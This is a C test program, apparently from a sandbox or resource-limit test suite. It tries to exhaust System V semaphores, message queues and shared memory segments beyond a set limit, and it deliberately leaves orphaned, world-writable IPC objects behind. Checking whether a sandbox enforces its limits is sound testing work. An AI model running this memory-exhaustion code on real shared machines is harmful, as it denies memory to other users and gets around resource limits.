/* Fills System V semaphores, message queues and segments, which are memory that belongs to no process. */
#include "attack.h"
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>

/* More than twice the limit of this attack. */
#define ENOUGH (224L << 20)
/* The machine's are cleared up by these keys. */
#define KEY 0x57494e44

static long semaphores(void) {
  long sum = 0;
  for (int i = 1; sum < ENOUGH && semget(KEY + i, 32000, IPC_CREAT | 0666) >= 0; i++) sum += 32000 * 64;
  return sum;
}

static long messages(void) {
  static struct {
    long type;
    char bytes[8192];
  } message = {1, ""};
  long sum = 0;
  for (int i = 1; sum < ENOUGH; i++) {
    int queue = msgget(KEY + i, IPC_CREAT | 0666);
    if (queue < 0) break;
    while (msgsnd(queue, &message, sizeof message.bytes, IPC_NOWAIT) == 0) sum += sizeof message.bytes;
  }
  return sum;
}

static long segments(void) {
  long sum = 0;
  for (int i = 1; sum < ENOUGH; i++) {
    int id = shmget(KEY + i, 4 << 20, IPC_CREAT | 0666);
    if (id < 0) break;
    char *bytes = shmat(id, NULL, 0);
    if (bytes == (void *)-1) break;
    memset(bytes, 1, 4 << 20);
    shmdt(bytes); /* from here on it is in nobody's memory */
    sum += 4 << 20;
  }
  return sum;
}

int main(void) {
  long sums[] = {semaphores(), messages(), segments()};
  printf("%ld %ld %ld MiB\n", sums[0] >> 20, sums[1] >> 20, sums[2] >> 20);
  if (sums[0] + sums[1] + sums[2] >= ENOUGH) through("System V");
  refused("System V");
}
